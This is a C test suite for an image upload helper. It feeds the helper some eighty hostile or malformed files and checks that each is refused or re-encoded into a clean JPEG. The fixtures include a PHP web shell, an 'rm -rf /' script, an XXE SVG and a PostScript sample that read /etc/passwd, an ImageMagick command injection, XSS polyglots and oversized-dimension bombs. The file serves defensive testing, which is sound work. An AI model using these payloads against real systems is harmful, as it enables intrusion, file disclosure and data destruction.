/* What strangers send instead of photos: every file goes the whole way through the real helper
 * process. Nothing but a clean re-encoded JPEG ever comes out, and the server lives on. */
#include <time.h>
#include <unistd.h>
#include "base/test.h"
#include "base/log.h"
#include "base/rng.h"
#include "base/settings.h"
#include "base/time.h"
#include "evidence/evidence_samples.h"

static struct ctx ctx;
static struct rng rng;

static int open_ctx(void **)
{
    log_set(LOG_QUIET);
    rng_seed(&rng, 7);
    ctx = (struct ctx){.arena = arena_new(1 << 20), .now = 1, .rng = &rng};
    evidence_set_helper("/proc/self/exe");
    return 0;
}

static int close_ctx(void **)
{
    arena_free(ctx.arena);
    return 0;
}

/* ---- the collection ---- */

struct shelf {
    struct sample s[160];
    size_t n;
};

static void put(struct shelf *shelf, const char *says, enum outcome expect, struct sample s)
{
    s.says = says;
    s.expect = expect;
    assert_true(shelf->n < sizeof shelf->s / sizeof shelf->s[0]);
    shelf->s[shelf->n++] = s;
}

static void put_bytes(struct shelf *shelf, const char *says, const char *bytes, size_t n)
{
    put(shelf, says, NOT_A_PICTURE, (struct sample){.bytes = (const unsigned char *)bytes, .n = n});
}
#define PUT_WORD(shelf, says, word) put_bytes((shelf), (says), (word), sizeof(word) - 1)

static void things_that_are_no_pictures(struct shelf *shelf)
{
    static const char ZEROS[4096];
    static char noise[4096];

    rng_bytes(&rng, noise, sizeof noise);
    put_bytes(shelf, "nothing at all", "", 0);
    PUT_WORD(shelf, "one byte", "\xFF");
    PUT_WORD(shelf, "only a JPEG's first bytes", "\xFF\xD8\xFF");
    PUT_WORD(shelf, "only a JPEG's first segment mark", "\xFF\xD8\xFF\xE0");
    PUT_WORD(shelf, "only a PNG's signature", "\x89PNG\r\n\x1a\n");
    PUT_WORD(shelf, "only RIFF and WEBP", "RIFF\x0c\0\0\0WEBPVP8 ");
    put_bytes(shelf, "four kilobytes of zeros", ZEROS, sizeof ZEROS);
    put_bytes(shelf, "four kilobytes of noise", noise, sizeof noise);
    PUT_WORD(shelf, "a PDF called .jpg",
             "%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF");
    PUT_WORD(shelf, "a GIF",
             "GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0"
             "\x02\x02\x44\x01\0;");
    PUT_WORD(shelf, "a GIF that is also a script", "GIF89a/*\0\0*/=1;alert(document.domain)//;");
    PUT_WORD(shelf, "an SVG with a script",
             "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>");
    PUT_WORD(shelf, "an SVG that reads a file",
             "<?xml version='1.0'?><!DOCTYPE s [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><svg>&e;"
             "</svg>");
    PUT_WORD(shelf, "a web page", "<!doctype html><script>fetch('/api/me')</script>");
    PUT_WORD(shelf, "a ZIP", "PK\x03\x04\x14\0\0\0\x08\0");
    PUT_WORD(shelf, "a program",
             "\x7f"
             "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0");
    PUT_WORD(shelf, "a Windows program", "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0");
    PUT_WORD(shelf, "a shell script", "#!/bin/sh\nrm -rf /\n");
    PUT_WORD(shelf, "a PHP page", "<?php passthru($_GET['c']); ?>");
    PUT_WORD(shelf, "a bitmap", "BM\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x01\0\0\0\x01\0\0\0");
    PUT_WORD(shelf, "a TIFF", "II*\0\x08\0\0\0\x01\0\0\x01\x03\0\x01\0\0\0\x01\0\0\0");
    PUT_WORD(shelf, "a HEIC of a phone",
             "\0\0\0\x18"
             "ftypheic\0\0\0\0mif1heic");
    PUT_WORD(shelf, "an AVIF",
             "\0\0\0\x1c"
             "ftypavif\0\0\0\0avifmif1miaf");
    PUT_WORD(shelf, "a film",
             "\0\0\0\x20"
             "ftypisom\0\0\x02\0isomiso2avc1mp41");
    PUT_WORD(shelf, "an icon", "\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x68\x04\0\0\x16\0\0\0");
    PUT_WORD(shelf, "a Photoshop file", "8BPS\0\x01\0\0\0\0\0\0\0\x03\0\0\0\x01\0\0\0\x01");
    PUT_WORD(shelf, "a sound called WebP",
             "RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x44\xac\0\0");
    PUT_WORD(shelf, "an ImageMagick script", "push graphic-context\nfill 'url(https://x/`id`)'\n");
    PUT_WORD(shelf, "a PostScript program", "%!PS\n(/etc/passwd) (r) file\n");
    PUT_WORD(shelf, "JSON", "{\"photos\":[]}");
    PUT_WORD(shelf, "names with turns and breaks", "..\\..\\a\xE2\x80\xAEgpj.exe\r\nX: y\r\n");
}

static void broken_jpegs(struct shelf *shelf)
{
    struct arena *a = ctx.arena;
    struct sample j = sample_picture(a, 'j', 64, 48);
    size_t frame = sample_find(j, "\xFF\xC0", 2), scan = sample_find(j, "\xFF\xDA", 2);
    struct sample half = j, tail = j;

    half.n = j.n / 2;
    tail.n = j.n - 2;
    put(shelf, "half a JPEG", NOT_A_PICTURE, half);
    put(shelf, "a JPEG without its end", NOT_A_PICTURE, tail);
    tail.n = scan;
    put(shelf, "a JPEG without its data", NOT_A_PICTURE, tail);
    put(shelf, "a JPEG of 50,000 × 50,000", PICTURE_TOO_LARGE,
        sample_put(a, j, frame + 5, 4, "\xC3\x50\xC3\x50", 4));
    put(shelf, "a JPEG of 65,535 × 65,535", PICTURE_TOO_LARGE,
        sample_put(a, j, frame + 5, 4, "\xFF\xFF\xFF\xFF", 4));
    put(shelf, "a JPEG without height", NOT_A_PICTURE, sample_put(a, j, frame + 5, 2, "\0\0", 2));
    put(shelf, "a JPEG without width", NOT_A_PICTURE, sample_put(a, j, frame + 7, 2, "\0\0", 2));
    put(shelf, "a JPEG of twelve bits", NOT_A_PICTURE, sample_put(a, j, frame + 4, 1, "\x0C", 1));
    put(shelf, "an arithmetic JPEG", NOT_A_PICTURE, sample_put(a, j, frame + 1, 1, "\xC9", 1));
    put(shelf, "a lossless JPEG", NOT_A_PICTURE, sample_put(a, j, frame + 1, 1, "\xC3", 1));
    put(shelf, "a JPEG with two frames", NOT_A_PICTURE,
        sample_put(a, j, frame, 0, j.bytes + frame, 19));
    put(shelf, "a JPEG with a second, larger frame behind its data", NOT_A_PICTURE,
        sample_put(a, j, j.n - 2, 0, "\xFF\xC0\0\x0B\x08\xC3\x50\xC3\x50\x01\x01\x11\0", 13));
    put(shelf, "a JPEG with a segment of length 0", NOT_A_PICTURE,
        sample_put(a, j, 4, 2, "\0\0", 2));
    put(shelf, "a JPEG with a segment of length 1", NOT_A_PICTURE,
        sample_put(a, j, 4, 2, "\0\x01", 2));
    put(shelf, "a JPEG with a segment past its end", NOT_A_PICTURE,
        sample_put(a, j, 4, 2, "\xFF\xFF", 2));
    put(shelf, "a JPEG that begins twice", NOT_A_PICTURE, sample_put(a, j, 2, 0, "\xFF\xD8", 2));
    put(shelf, "a JPEG head with a web page behind it", NOT_A_PICTURE,
        sample_put(a, j, 20, j.n - 20, "<script>alert(1)</script>", 25));
    put(shelf, "a JPEG without tables", NOT_A_PICTURE,
        sample_put(a, j, sample_find(j, "\xFF\xC4", 2), 418, "", 0));
}

static void broken_pngs(struct shelf *shelf)
{
    struct arena *a = ctx.arena;
    struct sample p = sample_picture(a, 'p', 64, 48);
    size_t data = sample_find(p, "IDAT", 4), end = sample_find(p, "IEND", 4);
    struct sample half = p;

    half.n = p.n / 2;
    put(shelf, "half a PNG", NOT_A_PICTURE, half);
    half.n = end - 4;
    put(shelf, "a PNG without its end", NOT_A_PICTURE, half);
    put(shelf, "a PNG of 50,000 × 50,000", PICTURE_TOO_LARGE,
        sample_put(a, p, 16, 8, "\0\0\xC3\x50\0\0\xC3\x50", 8));
    put(shelf, "a PNG of four billion squared", PICTURE_TOO_LARGE,
        sample_put(a, p, 16, 8, "\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF", 8));
    put(shelf, "a PNG without width", NOT_A_PICTURE, sample_put(a, p, 16, 4, "\0\0\0\0", 4));
    put(shelf, "a PNG without height", NOT_A_PICTURE, sample_put(a, p, 20, 4, "\0\0\0\0", 4));
    put(shelf, "a PNG that claims more rows than it has", NOT_A_PICTURE,
        sample_put(a, p, 20, 4, "\0\0\x10\0", 4));
    put(shelf, "a PNG of three bits", NOT_A_PICTURE, sample_put(a, p, 24, 1, "\x03", 1));
    put(shelf, "a PNG of an unknown colour", NOT_A_PICTURE, sample_put(a, p, 25, 1, "\x07", 1));
    put(shelf, "a PNG of an unknown compression", NOT_A_PICTURE,
        sample_put(a, p, 26, 1, "\x01", 1));
    put(shelf, "a PNG of an unknown weave", NOT_A_PICTURE, sample_put(a, p, 28, 1, "\x02", 1));
    put(shelf, "a PNG with a wrong checksum", NOT_A_PICTURE,
        sample_put(a, p, data + 20, 1, "\xAA", 1));
    put(shelf, "a PNG with a chunk past its end", NOT_A_PICTURE,
        sample_put(a, p, data - 4, 4, "\xFF\xFF\xFF\xFF", 4));
    put(shelf, "a PNG with two headers", NOT_A_PICTURE, sample_put(a, p, 33, 0, p.bytes + 8, 25));
    put(shelf, "a PNG without data", NOT_A_PICTURE, sample_put(a, p, data - 4, end - data, "", 0));
    put(shelf, "a PNG whose header is not first", NOT_A_PICTURE,
        sample_put(a, p, 8, 0, "\0\0\0\0IDAT\x35\xAF\x06\x1E", 12));
    put(shelf, "a PNG damaged by a text transfer", NOT_A_PICTURE, sample_put(a, p, 4, 2, "\n", 1));
}

static void broken_webps(struct shelf *shelf)
{
    struct arena *a = ctx.arena;
    struct sample w = sample_picture(a, 'w', 64, 48);
    struct sample half = w;

    half.n = w.n / 2;
    put(shelf, "half a WebP", NOT_A_PICTURE, half);
    put(shelf, "a WebP longer than its file", NOT_A_PICTURE,
        sample_put(a, w, 4, 4, "\xFF\xFF\xFF\x7F", 4));
    put(shelf, "a WebP that says it is empty", NOT_A_PICTURE,
        sample_put(a, w, 4, 4, "\0\0\0\0", 4));
    put(shelf, "a WebP with a chunk past its end", NOT_A_PICTURE,
        sample_put(a, w, 16, 4, "\xFF\xFF\xFF\xFF", 4));
    put(shelf, "a WebP without width", NOT_A_PICTURE, sample_put(a, w, 26, 2, "\0\0", 2));
    put(shelf, "a WebP that is no key frame", NOT_A_PICTURE, sample_put(a, w, 20, 1, "\x01", 1));
    put(shelf, "a WebP with a canvas of sixteen million", PICTURE_TOO_LARGE,
        sample_put(a, w, 12, 0, "VP8X\x0A\0\0\0\0\0\0\0\xFF\xFF\xFF\xFF\xFF\xFF", 18));
    put(shelf, "an animated WebP", NOT_A_PICTURE,
        sample_put(a, w, 12, 0,
                   "VP8X\x0A\0\0\0\x02\0\0\0\x3F\0\0\x2F\0\0"
                   "ANIM\x06\0\0\0\0\0\0\0\0\0",
                   32));
    put(shelf, "a WebP whose frame is not its canvas", NOT_A_PICTURE,
        sample_put(a, w, 12, 0, "VP8X\x0A\0\0\0\0\0\0\0\x01\0\0\x01\0\0", 18));
    put(shelf, "a WebP with nothing but a canvas", NOT_A_PICTURE,
        sample_put(a, w, 12, w.n - 12, "VP8X\x0A\0\0\0\0\0\0\0\x3F\0\0\x2F\0\0", 18));
}

#define PAYLOAD "<script>alert('x')</script><?php evil(); ?>PK\x03\x04%PDF-1.7 31.2304N121.4737E"

/* CRC-32 of a PNG chunk's type and body. */
static uint32_t checksum(const unsigned char *p, size_t n)
{
    uint32_t c = 0xFFFFFFFF;

    for (size_t i = 0; i < n; i++) {
        c ^= p[i];
        for (int bit = 0; bit < 8; bit++)
            c = c >> 1 ^ (c & 1 ? 0xEDB88320 : 0);
    }
    return ~c;
}

/* Files that really are pictures and something else as well: taken, and only the picture stays. */
static void pictures_with_something_inside(struct shelf *shelf)
{
    struct arena *a = ctx.arena;
    struct sample j = sample_picture(a, 'j', 64, 48), p = sample_picture(a, 'p', 64, 48),
                  w = sample_picture(a, 'w', 64, 48);
    static const size_t N = sizeof PAYLOAD - 1;
    struct buf comment = {.arena = a}, text = {.arena = a};

    put(shelf, "a JPEG with a second file behind it", DONE, sample_put(a, j, j.n, 0, PAYLOAD, N));
    put(shelf, "a PNG with a second file behind it", DONE, sample_put(a, p, p.n, 0, PAYLOAD, N));
    put(shelf, "a WebP with a second file behind it", DONE, sample_put(a, w, w.n, 0, PAYLOAD, N));
    buf_add(&comment, "\xFF\xFE\0", 3);
    buf_char(&comment, (char)(N + 2));
    buf_add(&comment, PAYLOAD, N);
    put(shelf, "a JPEG with a script as comment", DONE,
        sample_put(a, j, 2, 0, comment.text, comment.n));
    put(shelf, "a JPEG whose EXIF holds a script and a position", DONE,
        sample_exif(a, j, 6, PAYLOAD));
    put(shelf, "a JPEG with two EXIF blocks", DONE,
        sample_exif(a, sample_exif(a, j, 3, PAYLOAD), 8, PAYLOAD));
    buf_add(&text, "\0\0\0", 3);
    buf_char(&text, (char)N);
    buf_add(&text, "tEXt", 4);
    buf_add(&text, PAYLOAD, N);
    uint32_t sum = checksum((const unsigned char *)text.text + 4, text.n - 4);
    unsigned char four[4] = {(unsigned char)(sum >> 24), (unsigned char)(sum >> 16),
                             (unsigned char)(sum >> 8), (unsigned char)sum};
    buf_add(&text, four, sizeof four);
    put(shelf, "a PNG with a script as text", DONE, sample_put(a, p, 33, 0, text.text, text.n));
}

static void every_hostile_file_is_refused_or_comes_out_clean(void **)
{
    struct shelf *shelf = ARENA_NEW(ctx.arena, struct shelf);

    things_that_are_no_pictures(shelf);
    broken_jpegs(shelf);
    broken_pngs(shelf);
    broken_webps(shelf);
    pictures_with_something_inside(shelf);
    assert_true(shelf->n >= 80);
    for (size_t i = 0; i < shelf->n; i++) {
        const struct sample *s = &shelf->s[i];
        struct picture p = {0};
        enum outcome o = picture_remake(&ctx, s->bytes, s->n, &p);
        if (o != s->expect)
            fail_msg("%s: %s instead of %s", s->says, outcome_code(o), outcome_code(s->expect));
        if (o != DONE)
            continue;
        assert_memory_equal(p.jpeg, "\xFF\xD8\xFF", 3);
        if (memmem(p.jpeg, p.n, "script", 6) || memmem(p.jpeg, p.n, "php", 3) ||
            memmem(p.jpeg, p.n, "PK\x03\x04", 4) || memmem(p.jpeg, p.n, "31.2304", 7) ||
            memmem(p.jpeg, p.n, "Exif", 4))
            fail_msg("%s: something of it survived", s->says);
    }
}

/* ---- honest pictures ---- */

static int red_at(const struct picture *p, int x, int y)
{
    gdImagePtr im = gdImageCreateFromJpegPtr((int)p->n, (void *)(uintptr_t)p->jpeg);
    int colour = gdImageGetTrueColorPixel(im, x, y);

    gdImageDestroy(im);
    return gdTrueColorGetRed(colour) > 200 && gdTrueColorGetGreen(colour) < 60;
}

static void every_orientation_is_turned_upright_and_then_forgotten(void **)
{
    /* Which corner the red one of the stored picture becomes, and whether the sides change. */
    static const struct {
        bool right, bottom, lies;
    } ROWS[9] = {
        {0, 0, 0},
        {0, 0, 0},
        {1, 0, 0},
        {1, 1, 0},
        {0, 1, 0},
        {0, 0, 1},
        {1, 0, 1},
        {1, 1, 1},
        {0, 1, 1},
    };

    for (int o = 1; o <= 8; o++) {
        struct picture p;
        struct sample s = sample_exif(ctx.arena, sample_picture(ctx.arena, 'j', 80, 40), o, "");
        assert_int_equal(picture_remake(&ctx, s.bytes, s.n, &p), DONE);
        assert_int_equal(p.width, ROWS[o].lies ? 40 : 80);
        assert_int_equal(p.height, ROWS[o].lies ? 80 : 40);
        for (int corner = 0; corner < 4; corner++) {
            bool right = corner & 1, bottom = corner & 2;
            int x = right ? (int)p.width - 4 : 3, y = bottom ? (int)p.height - 4 : 3;
            if (red_at(&p, x, y) != (right == ROWS[o].right && bottom == ROWS[o].bottom))
                fail_msg("orientation %d, corner %d", o, corner);
        }
    }
}

static void a_large_picture_is_shrunk_to_the_setting_and_a_small_one_stays(void **)
{
    struct picture p;
    struct sample large = sample_picture(ctx.arena, 'j', 2400, 1200);
    struct sample small = sample_picture(ctx.arena, 'w', 33, 21);

    assert_int_equal(picture_remake(&ctx, large.bytes, large.n, &p), DONE);
    assert_int_equal(p.width, settings.picture_side);
    assert_int_equal(p.height, settings.picture_side / 2);
    assert_int_equal(picture_remake(&ctx, small.bytes, small.n, &p), DONE);
    assert_int_equal(p.width, 33);
    assert_int_equal(p.height, 21);
}

static void the_same_picture_always_has_the_same_hash(void **)
{
    struct picture one, other;
    struct sample s = sample_picture(ctx.arena, 'p', 50, 50);

    assert_int_equal(picture_remake(&ctx, s.bytes, s.n, &one), DONE);
    assert_int_equal(picture_remake(&ctx, s.bytes, s.n, &other), DONE);
    assert_string_equal(one.hash, other.hash);
    assert_true(rule_is_hash(one.hash));
}

static void without_a_helper_nothing_is_taken_and_the_server_says_it_is_broken(void **)
{
    struct picture p;
    struct sample s = sample_picture(ctx.arena, 'p', 5, 5);

    evidence_set_helper("/nonexistent/helper");
    assert_int_equal(picture_remake(&ctx, s.bytes, s.n, &p), BROKEN);
    evidence_set_helper(NULL);
    assert_int_equal(picture_remake(&ctx, s.bytes, s.n, &p), BROKEN);
    evidence_set_helper("/bin/false"); /* it ends at once and reads nothing */
    assert_int_equal(picture_remake(&ctx, s.bytes, s.n, &p), BROKEN);
    evidence_set_helper("/proc/self/exe");
}

static void a_helper_that_lies_is_not_believed(void **)
{
    struct picture p;
    struct sample s = sample_picture(ctx.arena, 'p', 5, 5);

    evidence_set_helper("/bin/echo"); /* says "picture-helper" and ends well */
    assert_int_equal(picture_remake(&ctx, s.bytes, s.n, &p), NOT_A_PICTURE);
    evidence_set_helper("/proc/self/exe");
}

int main(int argc, char **argv)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_hostile_file_is_refused_or_comes_out_clean),
        cmocka_unit_test(every_orientation_is_turned_upright_and_then_forgotten),
        cmocka_unit_test(a_large_picture_is_shrunk_to_the_setting_and_a_small_one_stays),
        cmocka_unit_test(the_same_picture_always_has_the_same_hash),
        cmocka_unit_test(without_a_helper_nothing_is_taken_and_the_server_says_it_is_broken),
        cmocka_unit_test(a_helper_that_lies_is_not_believed),
    };

    if (argc > 1 && strcmp(argv[1], "picture-helper") == 0)
        return picture_helper_main();
    return cmocka_run_group_tests(tests, open_ctx, close_ctx);
}
